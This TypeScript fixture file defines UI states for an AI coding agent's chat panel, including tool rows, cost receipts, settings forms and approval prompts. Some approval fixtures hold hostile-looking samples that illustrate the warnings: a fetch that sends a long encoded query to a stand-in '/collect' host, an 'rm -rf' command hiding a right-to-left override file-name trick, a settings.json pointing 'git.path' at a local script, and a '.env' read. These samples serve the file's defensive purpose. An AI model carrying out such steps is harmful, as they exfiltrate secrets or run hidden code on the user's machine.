import { applyForm, type SettingsFormSources, settingsForm } from '../../../src/host/chat/settingsForm.ts';
import type {
	ApprovalView,
	ChangedFileView,
	ChangesView,
	HostMessage,
	PanelState,
	SessionView,
	SettingsForm,
} from '../../../src/protocol/messages.ts';
import type { Item } from '../../../src/protocol/transcript.ts';

const sonnet = {
	id: 'anthropic/claude-sonnet-5',
	name: 'Claude Sonnet 5',
	isBuiltIn: false,
	price: '$3/$15',
	effort: { value: 'medium', label: 'Medium' },
	takesImages: true,
} as const;
const builtIn = { id: 'built-in', name: 'Built-in assistant', isBuiltIn: true } as const;

export const idle: PanelState = {
	session: { id: 's1', title: 'Fix the double read in parse' },
	model: sonnet,
	hasKey: true,
	isTrusted: true,
	isReadOnly: false,
	activity: 'idle',
	queue: [],
	cost: '$0.184 this session',
	chips: [],
	images: [],
	changes: { total: 0, added: 0, removed: 0, files: [] },
	mode: 'agent',
	level: 'ask',
	canSetMode: true,
};

export const editApproval: ApprovalView = {
	callId: 'c3',
	nonce: 'n-1',
	title: 'Edit parse.ts?',
	folder: 'src',
	reasons: ['Edits are asked for until you allow them in this session.'],
	offer: { rule: 'edits of unprotected files', scopes: ['session'] },
	position: 1,
	total: 2,
	detail: {
		kind: 'diff',
		path: 'src/parse.ts',
		hunks: [
			{
				oldStart: 41,
				newStart: 41,
				lines: [
					' for (const word of words) {',
					'-	tokens.push(next(), next()); // reads two words where the loop counts one, so every second is lost',
					'+	tokens.push(next());',
					' }',
				],
			},
			{ oldStart: 60, newStart: 60, lines: [' export {', '-	parse,', '+	parse,', '+	words,', ' };'] },
		],
	},
};

const longPath = 'packages/compiler/source/frontend/parser/generated/expressionGrammar.ts';

const answer = `The loop called \`next()\` twice for each word, so every second one was thrown away. It now reads **one token per turn**:

\`\`\`ts src/parse.ts
export function parse(text: string): Token[] {
	return words(text).map((word, at) => ({ word, at, isLast: at === words.length - 1 }));
} // one pass, no second next()
\`\`\`

## What changed

- [src/parse.ts](src/parse.ts#L41): one token per turn
- \`test/parse.test.ts:12\`: a case for tabs
- [x] tests pass

| case | before | after |
|------|-------:|------:|
| tabs | 1 | 2 |
| a much longer name of a case that does not fit a narrow panel | 10 | 20 |

> Measured on the three largest files.

See [the documentation](https://example.com/parse).`;

type ToolItem = Extract<Item, { kind: 'tool' }>;

const toolItem: ToolItem = {
	kind: 'tool',
	id: '',
	name: 'read',
	state: 'done',
	verb: 'Read',
	subject: 'src/parse.ts',
	path: 'src/parse.ts',
	note: '84 lines',
};

const tool = (id: string, fields: Partial<ToolItem>): Item => ({ ...toolItem, id, ...fields });

/** Work of a turn, with every state a row can have. */
const rows: readonly Item[] = [
	tool('c1', {}),
	tool('c2', { path: longPath, subject: longPath, note: '2,140 lines' }),
	{ kind: 'reasoning', id: 'r1', text: 'The iterator moves inside the call.', state: 'done', durationMs: 4200 },
	tool('c4', {
		verb: 'Edited',
		note: '',
		added: 6,
		removed: 2,
		undo: 'possible',
		...(editApproval.detail && { detail: editApproval.detail }),
	}),
	{
		kind: 'tool',
		id: 'c5',
		name: 'grep',
		state: 'failed',
		verb: 'Failed',
		subject: 'next\\(\\)+(',
		note: 'bad pattern',
		detail: {
			kind: 'text',
			text: 'The pattern is not a regular expression: unclosed group at 8.\nUse "regex": false to search for the text itself.',
		},
	},
	tool('c6', { state: 'denied', verb: 'Denied', subject: '.env', path: '.env', note: 'by you' }),
	{
		kind: 'tool',
		id: 'c7',
		name: 'grep',
		state: 'done',
		verb: 'Searched',
		subject: '“next()”',
		note: '3 hits',
		detail: {
			kind: 'matches',
			matches: [
				{ path: 'src/parse.ts', line: 42, text: '	tokens.push(next(), next());' },
				{ path: longPath, line: 1180, text: '		const token = next();' },
			],
			more: 1,
		},
	},
];

const user = (id: string, text: string, chips: readonly string[] = []): Item => ({
	kind: 'user',
	id,
	text,
	chips,
	canRestore: true,
});

export function changesOf(...files: readonly ChangedFileView[]): ChangesView {
	const sum = (count: (file: ChangedFileView) => number) => files.reduce((total, file) => total + count(file), 0);
	return { files, total: files.length, added: sum(({ added }) => added), removed: sum(({ removed }) => removed) };
}

const threeChanges = changesOf(
	{ path: 'src/parse.ts', added: 6, removed: 2 },
	{ path: longPath, added: 18, removed: 0, mark: 'new' },
	{ path: 'src/oldParser.ts', added: 0, removed: 7, mark: 'deleted' },
);

const receipt: Item = {
	kind: 'receipt',
	id: 'receipt1',
	cost: '$0.031',
	model: 'Sonnet 5',
	provider: 'Google Vertex',
	cachedShare: 0.93,
	promptTokens: 18_420,
	completionTokens: 812,
	durationMs: 24_000,
	requests: [
		{ purpose: 'Answer', note: 'rate limited', provider: 'Anthropic', cost: 'no cost', durationMs: 310 },
		{
			purpose: 'Answer',
			model: 'Claude Sonnet 5',
			provider: 'Google Vertex',
			promptTokens: 9_120,
			cachedTokens: 0,
			cacheWriteTokens: 9_020,
			completionTokens: 430,
			reasoningTokens: 210,
			cost: '$0.024',
			firstTokenMs: 820,
			durationMs: 9_400,
		},
		{
			purpose: 'Answer',
			note: 'interrupted',
			model: 'Claude Sonnet 5',
			provider: 'Google Vertex',
			cost: 'cost unknown',
			firstTokenMs: 640,
			durationMs: 3_100,
		},
		{
			purpose: 'Answer',
			model: 'anthropic/claude-5-sonnet-20260801',
			provider: 'Google Vertex',
			promptTokens: 9_300,
			cachedTokens: 9_020,
			cacheWriteTokens: 240,
			completionTokens: 382,
			reasoningTokens: 0,
			cost: '$0.0071',
			firstTokenMs: 640,
			durationMs: 8_100,
		},
	],
	providerSwitches: 1,
	switchCost: 'about $0.012, 8.9k tokens read anew',
};

function snapshot(state: PanelState, items: readonly Item[], view: 'chat' | 'sessions' | 'form' = 'chat'): HostMessage {
	return { type: 'snapshot', state, total: items.length, from: 0, items, view };
}

const minute = 60_000;

function sessionsAt(now: number): readonly SessionView[] {
	const session = (id: string, title: string, age: number, state: SessionView['state'], note: string) => ({
		id,
		title,
		updatedAt: now - age,
		state,
		note,
	});
	return [
		session('s1', 'Fix the double read in parse', 0, 'waiting', 'Waiting for your approval'),
		session('s2', 'Port the CLI to ESM', 4 * minute, 'running', 'Running npm test · $0.62'),
		session('s3', 'Explain the cache in fetch.ts and why it is never emptied', 2 * minute, 'idle', 'Sonnet 5 · $0.08'),
		session('s4', 'Write tests for dates', 3 * 24 * 60 * minute, 'idle', 'GPT-5 mini · $0.03'),
		session('s5', 'Review changes before release', 20 * 24 * 60 * minute, 'idle', 'Built-in · no cost'),
	];
}

const chips = [
	{ id: 'file', label: 'parse.ts', icon: 'file-code', isOn: true },
	{ id: 'lines', label: 'parse.ts:40-46', icon: 'selection', isOn: false },
] as const;

const thumbnail =
	'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAAEklEQVR42mNkYPhfDwQMMAYAQ8IFgQj1ZiAAAAAASUVORK5CYII=';
const images = [
	{ id: 'i1', label: 'Image 1 (PNG, 84 kB)', thumbnail },
	{ id: 'i2', label: 'Image 2 (WebP, 1.2 MB)' },
] as const;

const formSources: SettingsFormSources = {
	model: { value: sonnet.id, label: sonnet.name },
	target: sonnet.id,
	map: {
		'*': { temperature: 0.2, routing: { sort: 'price' } },
		[sonnet.id]: {
			reasoningEffort: 'high',
			fallbackModels: [
				'openai/gpt-5',
				'z-ai/glm-5.2',
				'a-vendor-with-a-long-name/a-model-with-a-longer-name-than-fits',
			],
			routing: { order: ['anthropic'], zeroDataRetention: true, quantizations: ['bf16'] },
		},
	},
	takes: new Set(['reasoningEffort', 'maxOutputTokens', 'temperature', 'topP', 'topK', 'stop', 'cacheLifetime']),
	efforts: ['low', 'medium', 'high'],
	price: sonnet.price,
	providers: [
		{ value: 'anthropic', label: 'Anthropic' },
		{ value: 'google-vertex', label: 'Google Vertex' },
		{ value: 'amazon-bedrock', label: 'Amazon Bedrock' },
	],
	models: [
		{ value: 'openai/gpt-5', label: 'GPT-5' },
		{ value: 'z-ai/glm-5.2', label: 'GLM 5.2' },
	],
	faults: {},
	sent: undefined,
};

/** The form as the host makes it. */
export function formWith(changes: Partial<SettingsFormSources> = {}): SettingsForm {
	return settingsForm({ ...formSources, ...changes }, english);
}

function english(message: string, ...args: (string | number)[]): string {
	return message.replace(/\{(\d)\}/g, (_, index) => String(args[Number(index)]));
}

/** What the host answers to settings that are wrong. */
export function faultyForm(sent: Readonly<Record<string, unknown>>): SettingsForm {
	const applied = applyForm(formSources.target, sent, formSources.map, english);
	return formWith({ sent, faults: 'faults' in applied ? applied.faults : {} });
}

/** A row whose subject is no file. */
function other(id: string, fields: Partial<ToolItem>): Item {
	const { path: _path, ...row } = toolItem;
	return { ...row, id, ...fields };
}

const command = (id: string, fields: Partial<ToolItem> = {}): Item =>
	other(id, {
		...{ name: 'bash', state: 'running', verb: 'Running', subject: 'npm test -- --grep parse', note: '' },
		...fields,
	});

export const plan = [
	{ text: 'Read the parser and its tests', status: 'done' },
	{ text: 'Run the tests and see which of the many cases with tabs and spaces fail', status: 'active' },
	{ text: 'Mend the loop', status: 'open' },
	{ text: 'Write down what changed', status: 'open' },
] as const;

const longCommand = `find . -name '*.test.ts' -newer package.json -print0 | xargs -0 node --test --test-reporter=spec
rm -rf out/tmp && echo "\\u{202E}gpj.exe" > "out/${'a-very-long-name-without-any-blank-'.repeat(4)}.txt"`;

function asking(approval: Omit<ApprovalView, 'callId' | 'nonce' | 'position' | 'total'>): readonly HostMessage[] {
	return [
		snapshot(
			{ ...idle, activity: 'waiting', approval: { callId: 'a1', nonce: 'n-a', position: 1, total: 1, ...approval } },
			[user('u1', 'Run the tests.'), command('a1', { state: 'waiting', verb: 'Waiting' })],
		),
	];
}

const offered = { scopes: ['session', 'workspace', 'always'] } as const;

/** Questions of every kind. */
const approvalStates = {
	'approval-command': asking({
		title: 'Run this command?',
		reasons: ['“npm” can run code of packages.'],
		detail: { kind: 'command', command: 'npm run build -- --watch=false' },
		offer: { rule: 'npm run build -- --watch=false', ...offered },
	}),
	'approval-long-command': asking({
		title: 'Run this command?',
		agent: 'Port the tests of the old parser to the new one, file by file',
		reasons: [
			'It holds control or invisible characters, written here as \\u{…}.',
			'It has more than one line.',
			'“rm” changes or deletes files.',
			'Text from outside came in since your last message, so rules do not count for it.',
		],
		detail: { kind: 'command', command: longCommand, directory: 'packages/compiler/source/frontend' },
	}),
	'approval-fetch': asking({
		title: 'Fetch from xn--80ak6aa92e.example:8443?',
		reasons: [
			'The marked part is long: it can carry away what was read here.',
			'Port 8443 is unusual for a page.',
			'Whoever owns the address sees all of it; the model reads what comes back.',
		],
		detail: {
			kind: 'url',
			parts: [
				{ text: 'https://', look: 'plain' },
				{ text: 'xn--80ak6aa92e.example', look: 'host' },
				{ text: ':8443', look: 'odd' },
				{ text: '/collect/a', look: 'plain' },
				{ text: `?d=${'c2VjcmV0'.repeat(40)}`, look: 'odd' },
			],
		},
	}),
	'approval-foreign': asking({
		title: 'Use create_issue of github?',
		reasons: ['This tool belongs to a server or another extension: nobody here knows what it does.'],
		detail: {
			kind: 'foreign',
			server: 'github',
			tool: 'create_issue',
			input: '{\n  "title": "Parser drops every second word",\n  "labels": ["bug"]\n}',
		},
		offer: { rule: 'tools of github', ...offered },
	}),
	'approval-several': asking({
		title: 'Allow 3 calls?',
		reasons: ['Your answer counts for all of them.'],
		items: [
			{
				id: 'i1',
				title: 'Edit parse.ts?',
				folder: 'src',
				reasons: ['Edits are asked for until you allow them in this session.'],
				...(editApproval.detail && { detail: editApproval.detail }),
			},
			{
				id: 'i2',
				title: 'Run this command?',
				reasons: ['“rm” changes or deletes files.', '“>” reads or writes a file.'],
				detail: { kind: 'command', command: 'rm -f out/log && echo done > out/state' },
			},
			{
				id: 'i3',
				title: 'Read .env?',
				reasons: ['Files of this kind hold keys or passwords. The model reads what is in it.'],
				detail: { kind: 'text', text: '.env' },
			},
		],
	}),
};

/** Every state of the panel, as the messages that bring the page there. */
export const panelStates: Readonly<Record<string, readonly HostMessage[]>> = {
	'empty-no-key': [
		snapshot(
			{ ...idleWithoutSession(), model: builtIn, hasKey: false, cost: 'Offline, no cost', chips: chips.slice(1) },
			[],
		),
	],
	'empty-with-key': [snapshot({ ...idleWithoutSession(), chips }, [])],
	sessions: [snapshot(idle, [], 'sessions'), { type: 'sessions', sessions: sessionsAt(Date.now()) }],
	working: [
		snapshot(
			{
				...idle,
				activity: 'running',
				queue: [{ id: 'q1', text: 'and add a case for tabs, and one for a line that ends in the middle of a word' }],
				chips,
				changes: changesOf({ path: 'src/parse.ts', added: 6, removed: 2 }),
			},
			[
				user('u1', 'Fix the parser: it drops every second word.', ['parse.ts:40-46']),
				...rows,
				{ kind: 'text', id: 't1', text: answer, state: 'done' },
				tool('c8', {
					state: 'running',
					verb: 'Reading',
					subject: 'test/parse.test.ts',
					path: 'test/parse.test.ts',
					note: '',
				}),
				{ kind: 'text', id: 't2', text: 'I am running the tests to be sure', state: 'streaming' },
			],
		),
	],
	approval: [
		snapshot(
			{
				...idle,
				activity: 'waiting',
				approval: editApproval,
				changes: changesOf({ path: 'src/parse.ts', added: 6, removed: 2 }),
			},
			[
				user('u1', 'Fix the parser and run the tests.'),
				tool('c1', {}),
				{ kind: 'reasoning', id: 'r1', text: 'The iterator moves inside the call.', state: 'done', durationMs: 4200 },
				{ kind: 'text', id: 't1', text: 'I found it. One line has to go.', state: 'done' },
				tool('c3', { state: 'waiting', verb: 'Waiting', note: '' }),
			],
		),
	],
	'approval-protected': [
		snapshot(
			{
				...idle,
				activity: 'waiting',
				approval: {
					callId: 'c9',
					nonce: 'n-2',
					title: 'Create settings.json?',
					folder: '.vscode',
					reasons: ['This file can change what the editor or your tools run, so it is always asked for.'],
					position: 1,
					total: 1,
					detail: { kind: 'text', text: '{\n\t"git.path": "./x.sh"\n}' },
				},
			},
			[user('u1', 'Set it up.'), tool('c9', { state: 'waiting', verb: 'Waiting', note: '' })],
		),
	],
	done: [
		snapshot({ ...idle, changes: threeChanges }, [
			user('u1', 'Fix the parser: it drops every second word.'),
			...rows,
			{ kind: 'notice', id: 'n1', icon: 'refresh', text: 'Anthropic was overloaded. Continued on Google Vertex.' },
			{ kind: 'text', id: 't1', text: answer, state: 'done' },
			receipt,
			user('u2', 'Make it stream.'),
			{ kind: 'text', id: 't3', text: 'I begin with the reader, which', state: 'interrupted' },
			{
				kind: 'error',
				id: 'e1',
				title: 'Your OpenRouter credit is used up.',
				text: 'This turn needs about $0.04; $0.01 is left. Nothing was lost.',
				actions: [
					{ action: 'addCredits', label: 'Add credits' },
					{ action: 'chooseModel', label: 'Use a free model' },
				],
				details: '{"error":{"code":402,"message":"Insufficient credits"}}',
			},
		]),
	],
	retrying: [
		snapshot({ ...idle, activity: 'running', cost: '$0.184 + 1 unknown this session' }, [
			user('u1', 'Why is this red?', ['parse.ts']),
			{ kind: 'text', id: 't1', text: 'The loop runs', state: 'interrupted' },
			{
				kind: 'notice',
				id: 'n1',
				icon: 'refresh',
				text: 'Rate limited by Google Vertex. Trying again in {0} s.',
				until: Date.now() + 3_600_000,
				actions: [
					{ action: 'retryNow', label: 'Try now' },
					{ action: 'chooseModel', label: 'Other model' },
					{ action: 'stop', label: 'Stop' },
				],
			},
		]),
	],
	receipts: [
		snapshot({ ...idle, chips, images }, [
			{ kind: 'user', id: 'u1', text: 'Why is this red?', chips: ['parse.ts'], images: ['Image 1', 'Image 2'] },
			{ kind: 'notice', id: 'n1', icon: 'refresh', text: 'Rate limited by Anthropic. Tried again 2 times.' },
			{
				kind: 'notice',
				id: 'n2',
				icon: 'switch',
				text: 'Claude Opus 5 could not answer (unavailable). Continued on Claude Sonnet 5.',
			},
			{
				kind: 'notice',
				id: 'n3',
				icon: 'warning',
				text: 'Claude Sonnet 5 does not take these settings, so they are left out: temperature, topP.',
			},
			{
				kind: 'notice',
				id: 'n4',
				icon: 'compact',
				text: 'The conversation was compacted from 190k to 42k tokens.',
				detail: { kind: 'text', text: '## What was done\n\n- The parser reads one token per turn.\n- Tests pass.' },
			},
			{ kind: 'text', id: 't1', text: 'It is the error colour of the theme.', state: 'done' },
			receipt,
		]),
	],
	'takes-no-images': [
		snapshot({ ...idle, images, model: { id: 'a/b', name: 'A model without eyes', isBuiltIn: false } }, [
			user('u1', 'Hello'),
		]),
	],
	form: [snapshot(idle, [], 'form'), { type: 'form', form: formWith() }],
	'form-faults': [
		snapshot(idle, [], 'form'),
		{
			type: 'form',
			form: faultyForm({
				reasoningEffort: 'high',
				temperature: 12,
				topK: 1.5,
				stop: ['1', '2', '3', '4', '5'],
				colour: 'red',
				routing: { maxPrice: { prompt: 'cheap' } },
			}),
		},
	],
	...approvalStates,
	commands: [
		snapshot({ ...idle, activity: 'running', level: 'edits', plan }, [
			user('u1', 'Run the tests and mend what fails.'),
			other('c1', {
				name: 'bash',
				verb: 'Ran',
				subject: 'git status --short',
				note: 'exit code 0, 0.1 s',
				detail: { kind: 'command', command: 'git status --short', output: ' M src/parse.ts' },
			}),
			command('c2', {
				state: 'done',
				verb: 'Ran',
				note: 'exit code 1, 2.3 s',
				allowedBy: ['npm test …'],
				detail: {
					kind: 'command',
					command: 'npm test -- --grep parse',
					directory: 'packages/compiler',
					output:
						'  12 passing (40ms)\n  1 failing\n\n  1) parse\n       reads one token per turn:\n     AssertionError: 1 == 2',
				},
			}),
			other('b1', { name: 'batch', verb: 'Running', state: 'running', subject: '4 calls', note: '' }),
			tool('b1-1', { parentId: 'b1' }),
			tool('b1-2', { parentId: 'b1', state: 'failed', verb: 'Failed', note: '' }),
			tool('b1-3', { parentId: 'b1', state: 'running', verb: 'Reading', subject: longPath, path: longPath, note: '' }),
			tool('b1-4', { parentId: 'b1', state: 'queued', verb: 'Next', note: '' }),
			other('t1', {
				...{ name: 'task', state: 'running', verb: 'Delegating', note: '7 steps, $0.031' },
				subject: 'Port the tests of the old parser to the new one',
				delegateId: 's9',
			}),
			other('w1', {
				name: 'webfetch',
				verb: 'Fetched',
				subject: 'https://example.com/parsers?of=tokens',
				note: '12 kB',
			}),
			other('f1', { name: 'useTool', verb: 'Used', subject: 'everything: echo', note: '140 characters' }),
			command('c9', {
				live: {
					isCut: true,
					openLine: '[####------] 40 %',
					text: Array.from(
						{ length: 12 },
						(_, at) => `  ✓ case ${at} of a rather long name that has to wrap in a narrow panel\n`,
					).join(''),
				},
			}),
		]),
	],
	'changes-open': [
		snapshot({ ...idle, changes: threeChanges }, [user('u1', 'Make it stream.'), tool('c1', {}), receipt]),
	],
	restored: [
		snapshot(idle, [
			user('u1', 'Make it stream.'),
			receipt,
			{
				kind: 'notice',
				id: 'n9',
				icon: 'discard',
				text: 'Went back to before “And now the tests”. 2 messages are set aside; 3 files were restored.',
				actions: [{ action: 'undoRestore', label: 'Undo', argument: '17' }],
			},
		]),
	],
	'plan-open': [
		snapshot(
			{ ...idle, activity: 'running', plan, changes: changesOf({ path: 'src/parse.ts', added: 6, removed: 2 }) },
			[user('u1', 'Port the parser.')],
		),
	],
	everything: [snapshot({ ...idle, level: 'everything' }, [user('u1', 'Go on.')])],
	// A menu stays open until the focus leaves it: what comes next takes it, or cannot have one.
	'mode-menu': [snapshot({ ...idle, mode: 'ask' }, [user('u1', 'How does it work?')])],
	'level-menu': [snapshot({ ...idle, level: 'edits' }, [user('u1', 'Go on.')])],
	'read-only': [
		snapshot({ ...idle, isReadOnly: true, canSetMode: false }, [
			user('u1', 'Hello'),
			{ kind: 'text', id: 't1', text: 'Hello.', state: 'done' },
		]),
	],
	untrusted: [snapshot({ ...idle, isTrusted: false, canSetMode: false, mode: 'ask' }, [user('u1', 'Hello')])],
};

/** What comes by itself after a time. */
export const awaitedParts: Readonly<Record<string, readonly string[]>> = {
	commands: ['.live'],
};

/** What is opened in a state before it is looked at: places to click. */
export const openedParts: Readonly<Record<string, readonly string[]>> = {
	receipts: ['.notice .link[aria-expanded]', '.receipt-label'],
	form: ['.form-fold'],
	commands: ['.entry[data-entry="c2"] .row-label'],
	'plan-open': ['.plan-label'],
	'changes-open': ['.changes-label'],
	'approval-command': ['.split-more'],
	'mode-menu': ['.picker.mode'],
	'level-menu': ['.picker.level'],
};

function idleWithoutSession(): PanelState {
	const { session: _session, ...rest } = idle;
	return { ...rest, cost: '' };
}
